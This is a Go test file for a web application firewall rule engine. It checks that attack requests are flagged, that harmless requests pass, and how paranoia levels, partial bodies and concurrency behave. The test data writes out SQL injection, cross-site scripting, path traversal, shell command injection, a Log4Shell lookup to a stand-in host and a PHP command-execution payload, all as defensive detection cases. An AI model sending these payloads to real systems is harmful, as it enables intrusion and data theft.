package crs

import (
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"

	"rhumb"
)

var engine = sync.OnceValues(New)

// inspected looks at a request as a browser sends it.
func inspected(t testing.TB, change func(*rhumb.Inspection)) rhumb.Finding {
	t.Helper()
	e, err := engine()
	if err != nil {
		t.Fatal(err)
	}
	i := browsed()
	change(i)
	return e.Inspect(i)
}

func browsed() *rhumb.Inspection {
	return &rhumb.Inspection{Paranoia: 1, Score: rhumb.WAFScore, Client: netip.MustParseAddr("192.0.2.1"), Method: "GET",
		Target: "/", Proto: "HTTP/1.1", Host: "shop.example.com", Fields: []rhumb.HeaderField{
			{Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"},
			{Name: "Accept", Value: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
			{Name: "Accept-Encoding", Value: "gzip, deflate, br, zstd"}, {Name: "Accept-Language", Value: "en"}}}
}

// posted makes a request one with a body.
func posted(kind, body string) func(*rhumb.Inspection) {
	return func(i *rhumb.Inspection) {
		i.Method, i.Body = "POST", []byte(body)
		i.Fields = append(i.Fields, rhumb.HeaderField{Name: "Content-Type", Value: kind},
			rhumb.HeaderField{Name: "Content-Length", Value: "100"})
	}
}

func at(target string) func(*rhumb.Inspection) {
	return func(i *rhumb.Inspection) { i.Target = target }
}

const form = "application/x-www-form-urlencoded"

func TestAttacksAreFound(t *testing.T) {
	for what, c := range map[string]struct {
		change func(*rhumb.Inspection)
		group  int // of the rules: 942 is SQL injection
	}{
		"SQL in a query":          {at("/items?id=1'%20OR%20'1'='1'--"), 942},
		"SQL in a form":           {posted(form, "user=admin'+UNION+SELECT+password+FROM+users--&x=1"), 942},
		"SQL in JSON":             {posted("application/json", `{"user": {"name": "x' OR 1=1 -- "}}`), 942},
		"SQL in a cookie":         {cookie("id=1' UNION SELECT NULL,version()--"), 942},
		"a script in a query":     {at("/search?q=<script>alert(document.cookie)</script>"), 941},
		"a script, encoded":       {at("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"), 941},
		"a script in a form":      {posted(form, "comment=%3Csvg+onload%3Dalert(1)%3E"), 941},
		"a path to another file":  {at("/download?file=../../../../etc/passwd"), 930},
		"a path, encoded":         {at("/static/..%2f..%2f..%2fetc/passwd"), 930},
		"a shell command":         {at("/ping?host=127.0.0.1;cat+/etc/passwd"), 932},
		"Log4Shell":               {cookie("x=${jndi:ldap://evil.test/a}"), 944},
		"PHP code":                {posted(form, "a=<?php+system($_GET['c']);"), 933},
		"a scanner":               {agent("sqlmap/1.8"), 913},
		"a header with a newline": {at("/?u=a%0d%0aSet-Cookie:%20a=b"), 921},
	} {
		f := inspected(t, c.change)
		if !f.Attack || f.Score < rhumb.WAFScore ||
			!slices.ContainsFunc(f.Rules, func(m rhumb.WAFMatch) bool { return m.ID/1000 == c.group }) {
			t.Errorf("%s: %+v", what, f)
		}
		for _, m := range f.Rules {
			if m.Text == "" || m.Where == "" {
				t.Errorf("%s: a rule without words: %+v", what, m)
			}
		}
	}
}

func cookie(v string) func(*rhumb.Inspection) {
	return func(i *rhumb.Inspection) { i.Fields = append(i.Fields, rhumb.HeaderField{Name: "Cookie", Value: v}) }
}

func agent(v string) func(*rhumb.Inspection) {
	return func(i *rhumb.Inspection) { i.Fields[0].Value = v }
}

func TestHarmlessRequestsPass(t *testing.T) {
	for what, change := range map[string]func(*rhumb.Inspection){
		"a page":              at("/"),
		"a query":             at("/search?q=red+shoes&sort=price&page=2"),
		"an apostrophe":       at("/search?q=O'Brien"),
		"umlauts":             at("/stra%C3%9Fe?q=gr%C3%BCn"),
		"an address":          at("/login?next=%2Faccount%3Ftab%3Dorders"),
		"a login":             posted(form, "user=ada&password=correct+horse+battery+staple"),
		"a comment":           posted(form, "text=I+really+like+this+%26+would+buy+it+again%21"),
		"JSON":                posted("application/json", `{"name": "Ada", "tags": ["a", "b"], "n": 3.5, "ok": true}`),
		"a cookie":            cookie("session=9f8c3a7e1b; theme=dark; _ga=GA1.2.1.2"),
		"a PUT of an API":     method("PUT", "/api/v1/items/42"),
		"a DELETE of an API":  method("DELETE", "/api/v1/items/42"),
		"a PATCH of an API":   method("PATCH", "/api/v1/items/42"),
		"HTTP/2":              func(i *rhumb.Inspection) { i.Proto = "HTTP/2.0" },
		"no language":         func(i *rhumb.Inspection) { i.Fields = i.Fields[:3] },
		"a form with a file":  posted("multipart/form-data; boundary=xyz", multipart),
		"a file in UTF-8":     at("/files/Rechnung%20M%C3%A4rz.pdf"),
		"a WebSocket":         upgrade,
		"an unknown encoding": at("/a?b=%FF%FE"),
	} {
		if f := inspected(t, change); f.Attack {
			t.Errorf("%s: %+v", what, f)
		}
	}
}

const multipart = "--xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n" +
	"Content-Type: text/plain\r\n\r\nhello\r\n--xyz--\r\n"

func method(m, target string) func(*rhumb.Inspection) {
	return func(i *rhumb.Inspection) { i.Method, i.Target = m, target }
}

func upgrade(i *rhumb.Inspection) {
	i.Fields = append(i.Fields, rhumb.HeaderField{Name: "Connection", Value: "Upgrade"},
		rhumb.HeaderField{Name: "Upgrade", Value: "websocket"},
		rhumb.HeaderField{Name: "Sec-WebSocket-Key", Value: "dGhlIHNhbXBsZSBub25jZQ=="})
}

func TestRulesThatAreLeftOutDoNotCount(t *testing.T) {
	attack := at("/items?id=1'%20OR%20'1'='1'--")
	all := inspected(t, attack)
	without := func(i *rhumb.Inspection) {
		attack(i)
		for _, m := range all.Rules {
			i.Without = append(i.Without, m.ID)
		}
	}
	if f := inspected(t, without); f.Attack || len(f.Rules) > 0 {
		t.Errorf("without its rules: %+v", f)
	}
	if f := inspected(t, attack); !f.Attack || len(f.Rules) != len(all.Rules) {
		t.Errorf("the next request lacks them too: %+v", f)
	}
}

func TestParanoiaAndScoreAreThoseOfARequest(t *testing.T) {
	suspicious := func(paranoia, score int) func(*rhumb.Inspection) {
		return func(i *rhumb.Inspection) {
			i.Target, i.Paranoia, i.Score = "/search?q=a%22%3bb'--", paranoia, score
		}
	}
	low, high := inspected(t, suspicious(1, 1000)), inspected(t, suspicious(4, 1000))
	if low.Score >= high.Score || len(low.Rules) >= len(high.Rules) || high.Attack {
		t.Errorf("at 1: %+v\nat 4: %+v", low, high)
	}
	if f := inspected(t, suspicious(4, high.Score)); !f.Attack {
		t.Errorf("a score of %d isn't enough for %d", f.Score, high.Score)
	}
	if f := inspected(t, suspicious(4, high.Score+1)); f.Attack {
		t.Errorf("a score of %d is enough for %d", f.Score, high.Score+1)
	}
}

func TestAPartOfABodyIsLookedAtAsSuch(t *testing.T) {
	half := `{"a": "` + strings.Repeat("x", 1000)
	if f := inspected(t, posted("application/json", half)); !f.Attack {
		t.Errorf("JSON without an end: %+v", f)
	}
	partial := func(i *rhumb.Inspection) {
		posted("application/json", half)(i)
		i.Partial = true
	}
	if f := inspected(t, partial); f.Attack {
		t.Errorf("the first part of JSON: %+v", f)
	}
	partial = func(i *rhumb.Inspection) {
		posted(form, "a=%3Cscript%3Ealert(1)%3C/script%3E&b=xxxxxxxxxx")(i)
		i.Partial = true
	}
	if f := inspected(t, partial); !f.Attack {
		t.Errorf("an attack in the first part: %+v", f)
	}
}

func TestRequestsAreLookedAtSideBySide(t *testing.T) {
	var work sync.WaitGroup
	for n := range 8 {
		work.Go(func() {
			for range 10 {
				bad := n%2 == 0
				f := inspected(t, func(i *rhumb.Inspection) {
					if i.Target = "/?q=shoes"; bad {
						i.Target = "/?q=<script>alert(1)</script>"
					}
				})
				if f.Attack != bad {
					t.Errorf("got %+v, want %t", f, bad)
				}
			}
		})
	}
	work.Wait()
}

func BenchmarkAPage(b *testing.B) {
	for b.Loop() {
		inspected(b, at("/search?q=red+shoes&sort=price&page=2"))
	}
}

func BenchmarkAForm(b *testing.B) {
	change := posted(form, "user=ada&text="+strings.Repeat("lorem+ipsum+", 80))
	for b.Loop() {
		inspected(b, change)
	}
}

func BenchmarkALargeBody(b *testing.B) {
	change := posted(form, "user=ada&text="+strings.Repeat("lorem+ipsum+", rhumb.WAFBody/12))
	for b.Loop() {
		inspected(b, change)
	}
}
